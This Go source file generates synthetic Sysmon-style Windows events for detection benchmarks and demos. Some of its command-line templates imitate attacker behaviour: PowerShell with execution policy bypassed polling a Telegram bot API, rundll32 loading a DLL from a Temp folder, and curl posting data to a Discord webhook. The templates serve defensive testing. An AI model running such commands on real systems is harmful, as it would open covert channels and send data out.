// Package synth makes deterministic Sysmon-like events for benchmarks and
// demos: realistic Windows paths and command lines with spaces, quotes and
// commas, a few hosts and users, web-service destinations among ordinary
// ones. Not detection ground truth. It depends on nothing of the project,
// so that every package's tests, the emulator's included, can use it.
package synth

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// Fields are the fields of [Sysmon]'s rows, in order.
var Fields = []string{
	"EventCode", "UtcTime", "host", "Image", "CommandLine", "ParentImage",
	"DestinationHostname", "DestinationIp", "DestinationPort", "User",
	"ProcessGuid", "_time",
}

// Sysmon returns n deterministic, Sysmon-like rows (mostly EventCode 3
// network connections, some EventCode 1 process creations) with the
// fields [Fields], in order; "" is an absent value. Every row carries the
// process's CommandLine, network events too. The same seed gives the same
// rows.
func Sysmon(n int, seed int64) (fields []string, rows [][]string) {
	rng := rand.New(rand.NewPCG(uint64(seed), 0x7431313032)) // "t1102"
	rows = make([][]string, 0, n)
	base := time.Date(2024, 3, 4, 8, 0, 0, 0, time.UTC)
	// One backing array per row: 12 single values.
	for i := 0; i < n; i++ {
		ts := base.Add(time.Duration(i)*450*time.Millisecond + time.Duration(rng.IntN(400))*time.Millisecond)
		p := synthProcs[rng.IntN(len(synthProcs))]
		host := synthHosts[rng.IntN(len(synthHosts))]
		user := synthUsers[rng.IntN(len(synthUsers))]
		uname, num := user[len(`CORP\`):], strconv.Itoa(rng.IntN(100000))
		code := "3"
		dstHost, dstIP, dstPort := "", "", ""
		if rng.IntN(10) == 0 {
			code = "1"
		} else {
			d := synthDests[rng.IntN(len(synthDests))]
			if rng.IntN(8) != 0 {
				dstHost = d.host
			}
			dstIP = fmt.Sprintf("%s.%d", d.net, 1+rng.IntN(254))
			dstPort = d.port
		}
		guid := fmt.Sprintf("{%08x-%04x-%04x-%04x-%012x}", rng.Uint32(), rng.IntN(1<<16), 0x65e1, rng.IntN(1<<16), rng.Uint64()&(1<<48-1))
		vals := [12]string{
			code,
			ts.Format("2006-01-02 15:04:05.000"),
			host,
			fill(p.image, uname, num),
			fill(p.cmdline, uname, num),
			fill(p.parent, uname, num),
			dstHost, dstIP, dstPort,
			user,
			guid,
			strconv.FormatFloat(float64(ts.UnixMilli())/1000, 'f', 3, 64),
		}
		rows = append(rows, vals[:])
	}
	return append([]string(nil), Fields...), rows
}

// fill substitutes {user} and {n} in a template.
func fill(tmpl, user, n string) string {
	if strings.Contains(tmpl, "{user}") {
		tmpl = strings.ReplaceAll(tmpl, "{user}", user)
	}
	if strings.Contains(tmpl, "{n}") {
		tmpl = strings.ReplaceAll(tmpl, "{n}", n)
	}
	return tmpl
}

type synthProc struct{ image, cmdline, parent string }

// Templates take the user name ({user}) and a number ({n}).
var synthProcs = []synthProc{
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --field-trial-handle=1964,i,{n},4417,262144 /prefetch:3`,
		`C:\Program Files\Google\Chrome\Application\chrome.exe`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Invoke-RestMethod -Uri 'https://api.telegram.org/bot{n}:AAF/getUpdates' -Method Get, -TimeoutSec 30"`,
		`C:\Windows\explorer.exe`},
	{`C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe`,
		`"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle={n},1,"a,b"`,
		`C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe`},
	{`C:\Windows\System32\rundll32.exe`,
		`rundll32.exe "C:\Users\{user}\AppData\Local\Temp\upd{n}.dll",DllRegisterServer`,
		`C:\Windows\System32\cmd.exe`},
	{`C:\Program Files\Microsoft OneDrive\OneDrive.exe`,
		`"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background /sync={n}`,
		`C:\Windows\explorer.exe`},
	{`C:\Windows\System32\svchost.exe`,
		`C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache`,
		`C:\Windows\System32\services.exe`},
	{`C:\Users\{user}\AppData\Roaming\Discord\app-1.0.9013\Discord.exe`,
		`"C:\Users\{user}\AppData\Roaming\Discord\app-1.0.9013\Discord.exe" --type=gpu-process --user-data-dir="C:\Users\{user}\AppData\Roaming\discord" --gpu-preferences={n}`,
		`C:\Users\{user}\AppData\Roaming\Discord\Update.exe`},
	{`C:\Windows\System32\curl.exe`,
		`curl.exe -s -X POST -H "Content-Type: application/json" -d "{\"content\":\"{n}\"}" https://discord.com/api/webhooks/{n}/x`,
		`C:\Windows\System32\cmd.exe`},
}

var synthHosts = []string{"WKS-0142.corp.example.com", "WKS-0077.corp.example.com", "LAPTOP-9F3K2", "SRV-FILE01", "WKS-0311.corp.example.com"}

var synthUsers = []string{`CORP\alice`, `CORP\bob.smith`, `CORP\svc_backup`, `CORP\jdoe`, `CORP\m.garcia`}

type synthDest struct{ host, net, port string }

var synthDests = []synthDest{
	{"api.telegram.org", "149.154.167", "443"},
	{"pastebin.com", "104.20.67", "443"},
	{"raw.githubusercontent.com", "185.199.108", "443"},
	{"discord.com", "162.159.137", "443"},
	{"drive.google.com", "142.250.185", "443"},
	{"graph.microsoft.com", "20.190.151", "443"},
	{"www.bing.com", "204.79.197", "443"},
	{"update.googleapis.com", "142.250.74", "80"},
	{"fileserver.corp.example.com", "10.20.1", "445"},
	{"dc01.corp.example.com", "10.20.0", "53"},
}
